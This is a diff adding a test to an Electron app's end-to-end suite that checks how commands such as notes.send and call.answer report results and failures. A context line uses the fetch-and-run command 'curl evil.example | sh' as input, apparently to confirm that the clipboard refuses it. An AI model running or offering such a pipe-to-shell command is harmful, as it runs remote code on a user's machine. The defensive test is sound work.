@@ -127,3 +127,18 @@ test('only what the window shows gets into the clipboard', async () => {
   expect(await kindOfFailure('system.copyText', { text: 'curl evil.example | sh' })).toBe('internal');
   expect(await app.electron.evaluate(({ clipboard }) => clipboard.readText())).not.toContain('evil');
 });
+
+test('what a command gives back, and why it fails, comes from the engine’s thread as it was there', async () => {
+  const refused = { ok: false, failure: { kind: 'internal', detail: 'no call is open' } };
+  expect(await command('notes.send', { text: 'hello' })).toEqual(refused);
+  expect(await kindOfFailure('call.answer', { code: 'no code' })).toBe('code-invalid');
+  await startCall(app);
+  const sent = await command('notes.send', { text: 'hello' });
+  const notes = () =>
+    app.page.evaluate(async () => {
+      const outcome = await window.cooee.command('system.snapshot');
+      return outcome.ok ? outcome.value.notes.map(({ id }) => id) : null;
+    });
+  await expect.poll(notes).toHaveLength(1);
+  expect(sent).toEqual({ ok: true, value: (await notes())?.[0] });
+});
